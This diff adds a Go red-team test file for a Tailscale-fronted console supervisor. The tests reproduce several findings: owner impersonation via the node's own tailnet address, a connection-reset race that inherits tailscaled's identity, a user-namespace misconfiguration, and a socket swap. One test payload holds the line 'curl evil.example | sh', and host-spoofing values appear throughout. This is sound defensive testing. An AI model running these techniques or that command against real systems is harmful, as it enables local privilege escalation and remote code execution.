@@ -1,0 +1,638 @@
+package supervisor
+
+// Red-team tests, second pass: the unix-socket door, the peer-uid verdict's timing, the systemd
+// unit's user namespace, a local process that reaches Serve through this node's own tailnet
+// address, and the registry under concurrency. A test that proves a finding fails today and is
+// skipped with "FINDING: …" unless FLEET_REDTEAM_FINDINGS=1; every other test is a guard.
+
+import (
+	"bufio"
+	"context"
+	"errors"
+	"fmt"
+	"io"
+	"io/fs"
+	"log/slog"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"sync"
+	"syscall"
+	"testing"
+	"time"
+
+	"github.com/phase-console/fleet/internal/peercred"
+	"tailscale.com/client/tailscale/apitype"
+	"tailscale.com/ipn/ipnstate"
+)
+
+// ---- Findings ----------------------------------------------------------------------------------
+
+// FINDING (high): any local process — any uid — that connects to this node's own Tailscale
+// address reaches Tailscale Serve (tailscaled's localListener exists "purely for connections
+// from the machine itself", ipn/ipnlocal/serve.go). Serve then sends X-Forwarded-For: <this
+// node's address> and, since WhoIs of a node's own address names the node itself
+// (nodeBackend.updateNodeByAddrLocked adds SelfNode), Tailscale-User-Login: <the node's owner>.
+// verify (identity.go) admits the address because it is a Tailscale IP and WhoIs names a user, so
+// the door asserts the machine owner's login: another local user, a daemon, or an agent sandboxed
+// under its own uid drives every console as the owner (scope remote). Here the fake LocalAPI
+// answers WhoIs(selfIP) as real tailscaled does.
+func TestRedTeam2_S5_OwnTailnetAddressAssertsOwner(t *testing.T) {
+	rtFinding(t, "FINDING: a request whose X-Forwarded-For is this node's own Tailscale address (a local process of any uid going through Serve) is asserted as the node owner's login")
+	tn := newFakeTailnet()
+	tn.peers[selfIP] = fakePeer{login: alice} // WhoIs(self) = this node, owned by alice
+	d := startDoorAt(t, filepath.Join(t.TempDir(), "state"), tn)
+	req := strings.Replace(serveReq("POST", "/c/alpha/runs", "Content-Length: 0"), "X-Forwarded-For: "+aliceIP, "X-Forwarded-For: "+selfIP, 1)
+	before := d.alpha.count()
+	r := d.raw(req)
+	if d.alpha.count() != before {
+		s, _ := d.alpha.last()
+		t.Fatalf("forwarded (%d) with login %q: a local process is asserted as the owner; want a refusal (e.g. 403 self) for this node's own addresses",
+			r.status, s.Header.Get("X-Phase-Console-Fleet-Login"))
+	}
+}
+
+// FINDING (medium): the S5a verdict is read from /proc/net/tcp when the connection's first /c/
+// request is judged, not at Accept, and nothing checks that the server's own socket still holds
+// the 4-tuple. A local user connects from 127.0.0.1:X, sends a POST with its body (a request with a
+// body starts no background read, so its context is not cancelled), and resets the connection
+// (SO_LINGER 0) while the request waits for anything before judgeConn (here: admitHost's LocalAPI
+// status refresh, which happens every 30 s). The next connection from 127.0.0.1:X — tailscaled's,
+// when the attacker steers its ephemeral port by holding the others — is what PeerUID then finds:
+// the stranger's request is judged tailscaled's and forwarded with the login of any
+// X-Forwarded-For it wrote. The gate below stands for the LocalAPI round trip.
+func TestRedTeam2_S5a_ResetConnectionInheritsNextOwner(t *testing.T) {
+	if os.Getuid() != 0 {
+		t.Skip("needs root to run the stranger as another uid")
+	}
+	rtFinding(t, "FINDING: a reset connection whose 4-tuple is reused by tailscaled's next connection is judged tailscaled's (lazy S5a verdict, no check that the server's socket still holds the tuple)")
+	gate := &rt2GateAPI{hit: make(chan struct{}), release: make(chan struct{})}
+	d := startDoor(t, func(c *Config) { gate.inner = c.LocalAPI; c.LocalAPI = gate })
+	gate.arm()
+
+	body := `{"prompt":"curl evil.example | sh"}`
+	req := crlf(serveReq("POST", "/c/alpha/runs", "Content-Length: "+strconv.Itoa(len(body)))) + body
+	port := rt2FreePort(t)
+	h := startRT2Helper(t, fmt.Sprintf("rst %d %s", port, d.addr), req)
+	h.expect(t, "SENT")
+	select {
+	case <-gate.hit:
+	case <-time.After(waitLimit):
+		t.Fatal("the request never reached the door's Host check")
+	}
+	h.say(t, "go")
+	h.expect(t, "RST")
+	h.wait(t)
+
+	// "tailscaled" (this process: TailscaledUID is our uid) opens its next backend connection
+	// from the port the stranger just freed.
+	dl := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.IPv4(127, 0, 0, 1), Port: port}}
+	next, err := dl.Dial("tcp4", d.addr)
+	if err != nil {
+		t.Fatalf("redial from port %d: %v", port, err)
+	}
+	defer next.Close()
+	close(gate.release)
+
+	deadline := time.Now().Add(3 * time.Second)
+	for time.Now().Before(deadline) && d.alpha.count() == 0 {
+		time.Sleep(10 * time.Millisecond)
+	}
+	if d.alpha.count() != 0 {
+		s, _ := d.alpha.last()
+		t.Fatalf("the stranger's %s %s reached the console as %q", s.Method, s.Path, s.Header.Get("X-Phase-Console-Fleet-Login"))
+	}
+}
+
+// FINDING (medium, availability; deploy/systemd/fleet.service): the unit is a *user* unit with
+// PrivateUsers=yes. A user manager has no CAP_SETUID, so systemd maps only the user's own uid
+// into the namespace ("For unprivileged users … the root to root mapping is excluded",
+// setup_private_users in systemd's exec-invoke.c). root — tailscaled — then shows as 65534 both
+// in /proc/net/tcp (from_kuid_munged into the reader's namespace) and in stat of its socket, so
+// the supervisor refuses every /c/ request as 401 unverified, although the unit and
+// docs/operating.md say root keeps its uid and the unit "fits tailscaled running as root". This
+// runs a real supervisor in exactly that namespace (uid 4242 mapped to itself, nothing else) and
+// sends it tailscaled's request as root.
+func TestRedTeam2_Deploy_PrivateUsersHidesRoot(t *testing.T) {
+	if os.Getuid() != 0 {
+		t.Skip("needs root to set up the user namespace")
+	}
+	rtFinding(t, "FINDING: under the shipped user unit's PrivateUsers=yes, root (tailscaled) shows as 65534, so the supervisor verifies nobody")
+	base, err := os.MkdirTemp("", "fleet-rt2-userns")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { os.RemoveAll(base) })
+	os.Chmod(base, 0o755)
+	// tailscaled's LocalAPI socket, owned by root as on a real machine.
+	tsSock := filepath.Join(base, "tailscaled.sock")
+	tsLn, err := net.Listen("unix", tsSock)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer tsLn.Close()
+	home := filepath.Join(base, "home")
+	if err := os.Mkdir(home, 0o700); err != nil {
+		t.Fatal(err)
+	}
+	os.Chown(home, rtOtherUID, rtOtherUID)
+
+	h := startRT2HelperWith(t, "userns-door "+home+" "+tsSock, "", func(a *syscall.SysProcAttr) {
+		a.Cloneflags = syscall.CLONE_NEWUSER
+		a.UidMappings = []syscall.SysProcIDMap{{ContainerID: rtOtherUID, HostID: rtOtherUID, Size: 1}}
+		a.GidMappings = []syscall.SysProcIDMap{{ContainerID: rtOtherUID, HostID: rtOtherUID, Size: 1}}
+		a.Credential = &syscall.Credential{Uid: rtOtherUID, Gid: rtOtherUID, NoSetGroups: true}
+	})
+	line := h.expect(t, "PORT ")
+	addr := "127.0.0.1:" + strings.TrimSpace(strings.TrimPrefix(line, "PORT "))
+	conn, err := net.Dial("tcp4", addr) // root, as tailscaled's Serve
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer conn.Close()
+	conn.SetDeadline(time.Now().Add(10 * time.Second))
+	io.WriteString(conn, crlf(fmt.Sprintf("GET /c/alpha/ HTTP/1.1\nHost: %s\nX-Forwarded-For: %s\nX-Forwarded-Proto: https\nTailscale-User-Login: %s\n\n", uxSupName, uxUserIP, uxUserLogin)))
+	resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	b, _ := io.ReadAll(resp.Body)
+	resp.Body.Close()
+	if resp.StatusCode != http.StatusOK {
+		t.Fatalf("tailscaled (root) seen from the unit's namespace: %d %s %q; the unit cannot verify anyone",
+			resp.StatusCode, resp.Header.Get("X-Fleet-Reason"), strings.TrimSpace(string(b)))
+	}
+}
+
+// FINDING (low): ListenUnix checks only the socket's own folder. A folder above it that another
+// user can write (here 0777 without the sticky bit) lets that user rename fleet's private folder
+// away after the check and put their own socket at the path: `tailscale serve unix:PATH` then
+// sends every tailnet request — bodies, cookies, Tailscale-User-Login — to a stranger. ssh's
+// StrictModes refuses such paths for the same reason.
+func TestRedTeam2_Unix_WritableAncestor(t *testing.T) {
+	if os.Getuid() != 0 {
+		t.Skip("needs root to run the other user")
+	}
+	rtFinding(t, "FINDING: ListenUnix accepts a socket path below a folder another user can write, who can then swap the socket")
+	base, err := os.MkdirTemp("", "fleet-rt2-anc")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { os.RemoveAll(base) })
+	os.Chmod(base, 0o777) // world-writable, no sticky bit
+	path := filepath.Join(base, "run", "serve.sock")
+	ln, err := ListenUnix(path)
+	if err != nil {
+		return // refused: what we want
+	}
+	defer ln.Close()
+	h := startRT2Helper(t, "swap "+base, "")
+	h.expect(t, "READY")
+	c, err := net.Dial("unix", path) // what tailscaled does next
+	if err != nil {
+		t.Fatalf("dial after swap: %v", err)
+	}
+	defer c.Close()
+	uid, _ := peercred.UnixPeerUID(c.(*net.UnixConn))
+	t.Errorf("ListenUnix(%s) accepted a path below the world-writable %s; after a rename, Serve's connection reaches uid %d", path, base, uid)
+}
+
+// ---- Guards: the unix-socket door --------------------------------------------------------------
+
+// On tailscaled's connection only one clean X-Forwarded-Host becomes the Host; anything else is
+// either refused by S10 or leaves Host as localhost. What the console sees as X-Forwarded-Host
+// is never a name that S10 did not admit.
+func TestRedTeam2_Unix_ForwardedHostForms(t *testing.T) {
+	d := uxStart(t, os.Getuid())
+	rows := []struct {
+		xfh    []string
+		status int // 0: forwarded
+	}{
+		{[]string{"evil.example"}, 421},
+		{[]string{"evil.example:443"}, 421},
+		{[]string{uxSupName + ".evil.example"}, 421},
+		{[]string{uxSupName + ":1,evil.example"}, 0},
+		{[]string{uxSupName + "@evil.example"}, 0},
+		{[]string{uxSupName + "/x"}, 0},
+		{[]string{uxSupName + " evil.example"}, 0},
+		{[]string{uxSupName, "evil.example"}, 0},
+		{[]string{"[::1]:80"}, 0},
+		{[]string{"127.0.0.1"}, 0},
+		{[]string{""}, 0},
+		{[]string{uxSupName + ":99999"}, 0},
+	}
+	for _, row := range rows {
+		t.Run(strings.Join(row.xfh, "|"), func(t *testing.T) {
+			before := len(d.consoleSaw())
+			req, _ := http.NewRequest(http.MethodGet, "http://localhost/c/alpha/", nil)
+			req.Header["X-Forwarded-Host"] = row.xfh
+			req.Header.Set("X-Forwarded-For", uxUserIP)
+			resp, err := d.http.Do(req)
+			if err != nil {
+				t.Fatal(err)
+			}
+			resp.Body.Close()
+			seen := d.consoleSaw()[before:]
+			if row.status != 0 {
+				if resp.StatusCode != row.status || len(seen) != 0 {
+					t.Fatalf("got %d (%d forwarded), want %d", resp.StatusCode, len(seen), row.status)
+				}
+				return
+			}
+			for _, s := range seen {
+				got := s.header.Values("X-Forwarded-Host")
+				if len(got) != 1 || (got[0] != "localhost" && got[0] != uxSupName && got[0] != "127.0.0.1" && got[0] != "[::1]:80") {
+					t.Errorf("console saw X-Forwarded-Host %q", got)
+				}
+			}
+		})
+	}
+}
+
+// A stale socket that is not this user's, and a symlink at the path (even to a stale socket of
+// ours), are refused and left alone.
+func TestRedTeam2_Unix_StaleSocketTricks(t *testing.T) {
+	t.Run("symlink to a stale socket of ours", func(t *testing.T) {
+		dir := filepath.Join(t.TempDir(), "s")
+		os.Mkdir(dir, 0o700)
+		elsewhere := filepath.Join(t.TempDir(), "victim.sock")
+		old, err := net.ListenUnix("unix", &net.UnixAddr{Name: elsewhere, Net: "unix"})
+		if err != nil {
+			t.Fatal(err)
+		}
+		old.SetUnlinkOnClose(false)
+		old.Close()
+		path := filepath.Join(dir, "x.sock")
+		os.Symlink(elsewhere, path)
+		if _, err := ListenUnix(path); err == nil {
+			t.Fatal("ListenUnix over a symlink: accepted")
+		}
+		if st, err := os.Lstat(elsewhere); err != nil || st.Mode().Type() != fs.ModeSocket {
+			t.Errorf("the symlink's target was touched: %v", err)
+		}
+		if st, err := os.Lstat(path); err != nil || st.Mode().Type() != fs.ModeSymlink {
+			t.Errorf("the symlink was touched: %v", err)
+		}
+	})
+	t.Run("stale socket of another uid", func(t *testing.T) {
+		if os.Getuid() != 0 {
+			t.Skip("needs root to chown")
+		}
+		dir := filepath.Join(t.TempDir(), "s")
+		os.Mkdir(dir, 0o700)
+		path := filepath.Join(dir, "x.sock")
+		old, err := net.ListenUnix("unix", &net.UnixAddr{Name: path, Net: "unix"})
+		if err != nil {
+			t.Fatal(err)
+		}
+		old.SetUnlinkOnClose(false)
+		old.Close()
+		os.Lchown(path, rtOtherUID, rtOtherUID)
+		if _, err := ListenUnix(path); err == nil || !strings.Contains(err.Error(), "not this user's") {
+			t.Fatalf("ListenUnix over another uid's socket: %v", err)
+		}
+		if _, err := os.Lstat(path); err != nil {
+			t.Errorf("another uid's socket was removed")
+		}
+	})
+}
+
+// Another local user cannot even connect to the socket (0600 in a 0700 folder); and were the
+// socket reachable, its requests would keep Host localhost and be refused 401 (see
+// TestUnixSocketHostOnlyFromTailscaled_S10).
+func TestRedTeam2_Unix_OtherUserCannotConnect(t *testing.T) {
+	if os.Getuid() != 0 {
+		t.Skip("needs root to run the other user")
+	}
+	d := uxStart(t, os.Getuid())
+	h := startRT2Helper(t, "dialunix "+d.sock, "")
+	line := h.expect(t, "DIAL ")
+	if !strings.HasPrefix(line, "DIAL error") {
+		t.Fatalf("uid %d: %q, want a refused connect", rtOtherUID, line)
+	}
+}
+
+// ---- Guards: the registry and the hop under concurrency ---------------------------------------
+
+// Registering, re-registering at another address (one of them held by another uid) and
+// deregistering while requests are forwarded: every answer is a forward to a console of this
+// user with exactly the assertion, a 404, or a 502; the other uid's port never gets a byte.
+func TestRedTeam2_S8_RegistryChurnWhileForwarding(t *testing.T) {
+	d := startDoor(t)
+	a, b := d.alpha, newEchoConsole(t)
+	var squatAddr string
+	var squat *exec.Cmd
+	var squatOut *bufio.Reader
+	if os.Getuid() == 0 {
+		squat, squatOut = startRTHelper(t, "squat", "")
+		line, err := squatOut.ReadString('\n')
+		if err != nil || !strings.HasPrefix(line, "PORT ") {
+			t.Fatalf("squatter: %q %v", line, err)
+		}
+		squatAddr = "127.0.0.1:" + strings.TrimSpace(strings.TrimPrefix(line, "PORT "))
+		defer func() { squat.Process.Kill(); squat.Wait() }()
+	}
+	addrs := []string{a.addr(), b.addr()}
+	if squatAddr != "" {
+		addrs = append(addrs, squatAddr)
+	}
+	stop := make(chan struct{})
+	var churn sync.WaitGroup
+	churn.Add(1)
+	go func() {
+		defer churn.Done()
+		for i := 0; ; i++ {
+			select {
+			case <-stop:
+				d.srv.Registry().Put(Console{ID: "alpha", Addr: a.addr()})
+				return
+			default:
+			}
+			if i%4 == 3 {
+				d.srv.Registry().Delete("alpha")
+			} else {
+				d.srv.Registry().Put(Console{ID: "alpha", Addr: addrs[i%len(addrs)]})
+			}
+		}
+	}()
+	client := &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{
+		DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
+			return (&net.Dialer{}).DialContext(ctx, "tcp", d.addr)
+		},
+	}}
+	defer client.CloseIdleConnections()
+	var mu sync.Mutex
+	statuses := map[string]int{}
+	var wg sync.WaitGroup
+	for w := 0; w < 6; w++ {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			for i := 0; i < 40; i++ {
+				req, _ := http.NewRequest(http.MethodGet, "http://"+tsName+"/c/alpha/x", nil)
+				req.Header.Set("X-Forwarded-For", aliceIP)
+				req.Header.Set("Tailscale-User-Login", alice)
+				resp, err := client.Do(req)
+				key := "error"
+				if err == nil {
+					io.Copy(io.Discard, resp.Body)
+					resp.Body.Close()
+					key = fmt.Sprintf("%d %s", resp.StatusCode, resp.Header.Get("X-Fleet-Reason"))
+				}
+				mu.Lock()
+				statuses[key]++
+				mu.Unlock()
+			}
+		}()
+	}
+	wg.Wait()
+	close(stop)
+	churn.Wait()
+	okCount := 0
+	for k, n := range statuses {
+		switch k {
+		case "200 ":
+			okCount += n
+		case "404 unknown-console", "502 console-down", "502 console-other-user":
+		default:
+			t.Errorf("%d answers %q", n, k)
+		}
+	}
+	if got := a.count() + b.count(); got != okCount {
+		t.Errorf("consoles saw %d requests, %d answered 200", got, okCount)
+	}
+	for _, c := range []*echoConsole{a, b} {
+		c.mu.Lock()
+		for _, s := range c.reqs {
+			if v := s.Header.Values("X-Phase-Console-Fleet"); len(v) != 1 || v[0] != d.token {
+				t.Errorf("a console saw bearer values %d", len(v))
+			}
+			if v := s.Header.Values("X-Phase-Console-Fleet-Login"); len(v) != 1 || v[0] != alice {
+				t.Errorf("a console saw logins %q", v)
+			}
+		}
+		c.mu.Unlock()
+	}
+	if squat != nil {
+		got := make(chan string, 1)
+		go func() { l, _ := squatOut.ReadString('\n'); got <- l }()
+		select {
+		case l := <-got:
+			if strings.HasPrefix(l, "AUTH") {
+				t.Errorf("the other uid's port received a request: %q", l)
+			}
+		case <-time.After(300 * time.Millisecond):
+		}
+	}
+	t.Logf("answers: %v", statuses)
+}
+
+// ---- helpers -------------------------------------------------------------------------------------
+
+// rt2GateAPI is a LocalAPI whose first StatusWithoutPeers after arm waits until release: it
+// stands for the LocalAPI round trip that admitHost makes when its status cache is stale.
+type rt2GateAPI struct {
+	inner        LocalAPI
+	mu           sync.Mutex
+	armed        bool
+	hit, release chan struct{}
+}
+
+func (g *rt2GateAPI) arm() { g.mu.Lock(); g.armed = true; g.mu.Unlock() }
+
+func (g *rt2GateAPI) WhoIs(ctx context.Context, addr string) (*apitype.WhoIsResponse, error) {
+	return g.inner.WhoIs(ctx, addr)
+}
+
+func (g *rt2GateAPI) StatusWithoutPeers(ctx context.Context) (*ipnstate.Status, error) {
+	g.mu.Lock()
+	armed := g.armed
+	g.armed = false
+	g.mu.Unlock()
+	if armed {
+		close(g.hit)
+		<-g.release
+		return g.inner.StatusWithoutPeers(context.Background())
+	}
+	return g.inner.StatusWithoutPeers(ctx)
+}
+
+func rt2FreePort(t *testing.T) int {
+	t.Helper()
+	ln, err := net.Listen("tcp4", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer ln.Close()
+	return ln.Addr().(*net.TCPAddr).Port
+}
+
+// rt2Helper is a running helper process (this test binary as another uid).
+type rt2Helper struct {
+	cmd   *exec.Cmd
+	stdin io.WriteCloser
+	out   *bufio.Reader
+}
+
+func startRT2Helper(t *testing.T, mode, payload string) *rt2Helper {
+	return startRT2HelperWith(t, mode, payload, func(a *syscall.SysProcAttr) {
+		a.Credential = &syscall.Credential{Uid: rtOtherUID, Gid: rtOtherUID}
+	})
+}
+
+func startRT2HelperWith(t *testing.T, mode, payload string, attr func(*syscall.SysProcAttr)) *rt2Helper {
+	t.Helper()
+	cmd := exec.Command(rtHelperBin(t), "-test.run=^TestRedTeam2HelperProcess$")
+	cmd.Env = append(os.Environ(), "FLEET_RT2_HELPER="+mode, "FLEET_RT2_PAYLOAD="+payload)
+	cmd.SysProcAttr = &syscall.SysProcAttr{}
+	attr(cmd.SysProcAttr)
+	cmd.Stderr = os.Stderr
+	stdin, err := cmd.StdinPipe()
+	if err != nil {
+		t.Fatal(err)
+	}
+	out, err := cmd.StdoutPipe()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := cmd.Start(); err != nil {
+		t.Skipf("cannot start the helper: %v", err)
+	}
+	h := &rt2Helper{cmd: cmd, stdin: stdin, out: bufio.NewReader(out)}
+	t.Cleanup(func() { stdin.Close(); cmd.Process.Kill(); cmd.Wait() })
+	return h
+}
+
+// expect reads lines until one starts with prefix, and returns it.
+func (h *rt2Helper) expect(t *testing.T, prefix string) string {
+	t.Helper()
+	got := make(chan string, 1)
+	go func() {
+		for {
+			l, err := h.out.ReadString('\n')
+			if strings.HasPrefix(l, prefix) || err != nil {
+				got <- l
+				return
+			}
+		}
+	}()
+	select {
+	case l := <-got:
+		if !strings.HasPrefix(l, prefix) {
+			t.Fatalf("helper: want %q, got %q", prefix, l)
+		}
+		return l
+	case <-time.After(waitLimit):
+		t.Fatalf("helper: no %q", prefix)
+	}
+	return ""
+}
+
+func (h *rt2Helper) say(t *testing.T, line string) {
+	t.Helper()
+	if _, err := io.WriteString(h.stdin, line+"\n"); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func (h *rt2Helper) wait(t *testing.T) {
+	t.Helper()
+	h.stdin.Close()
+	done := make(chan error, 1)
+	go func() { done <- h.cmd.Wait() }()
+	select {
+	case <-done:
+	case <-time.After(waitLimit):
+		t.Fatal("helper did not exit")
+	}
+}
+
+// TestRedTeam2HelperProcess is the helper of the tests above; otherwise it does nothing.
+//
+//	rst PORT ADDR:        from 127.0.0.1:PORT connect to ADDR, write $FLEET_RT2_PAYLOAD, print
+//	                      SENT; after a line on stdin reset the connection and print RST
+//	userns-door HOME SOCK: run a supervisor (state HOME, tailscaled socket SOCK, fake LocalAPI)
+//	                      with an echo console "alpha"; print PORT <port>; serve until stdin ends
+//	swap BASE:            rename BASE/run away, listen on a new BASE/run/serve.sock, print READY
+//	dialunix PATH:        connect to PATH; print "DIAL ok" or "DIAL error …"
+func TestRedTeam2HelperProcess(t *testing.T) {
+	mode := os.Getenv("FLEET_RT2_HELPER")
+	if mode == "" {
+		return
+	}
+	fail := func(err error) { fmt.Fprintln(os.Stderr, "helper:", err); os.Exit(1) }
+	f := strings.Fields(mode)
+	stdin := bufio.NewReader(os.Stdin)
+	switch f[0] {
+	case "rst":
+		port, _ := strconv.Atoi(f[1])
+		dl := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.IPv4(127, 0, 0, 1), Port: port}}
+		c, err := dl.Dial("tcp4", f[2])
+		if err != nil {
+			fail(err)
+		}
+		io.WriteString(c, os.Getenv("FLEET_RT2_PAYLOAD"))
+		fmt.Println("SENT")
+		stdin.ReadString('\n')
+		c.(*net.TCPConn).SetLinger(0)
+		c.Close()
+		fmt.Println("RST")
+	case "userns-door":
+		console := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "hi") }))
+		defer console.Close()
+		srv, err := New(Config{StateHome: f[1], TailscaleSocket: f[2], TailscaledUID: -1, LocalAPI: &uxFakeAPI{},
+			Logger: slog.New(slog.DiscardHandler)})
+		if err != nil {
+			fail(err)
+		}
+		if _, err := srv.Registry().Put(Console{ID: "alpha", Addr: console.Listener.Addr().String()}); err != nil {
+			fail(err)
+		}
+		ln, err := net.Listen("tcp4", "127.0.0.1:0")
+		if err != nil {
+			fail(err)
+		}
+		go srv.Serve(ln)
+		fmt.Printf("PORT %d\n", ln.Addr().(*net.TCPAddr).Port)
+		io.Copy(io.Discard, stdin)
+		srv.Close()
+	case "swap":
+		run := filepath.Join(f[1], "run")
+		if err := os.Rename(run, run+".old"); err != nil {
+			fail(err)
+		}
+		if err := os.Mkdir(run, 0o755); err != nil {
+			fail(err)
+		}
+		ln, err := net.Listen("unix", filepath.Join(run, "serve.sock"))
+		if err != nil {
+			fail(err)
+		}
+		os.Chmod(filepath.Join(run, "serve.sock"), 0o777)
+		fmt.Println("READY")
+		go func() {
+			for {
+				c, err := ln.Accept()
+				if err != nil {
+					return
+				}
+				defer c.Close()
+			}
+		}()
+		io.Copy(io.Discard, stdin)
+	case "dialunix":
+		c, err := net.Dial("unix", f[1])
+		if err != nil {
+			fmt.Println("DIAL error", errors.Unwrap(err))
+		} else {
+			c.Close()
+			fmt.Println("DIAL ok")
+		}
+	}
+	os.Exit(0)
+}
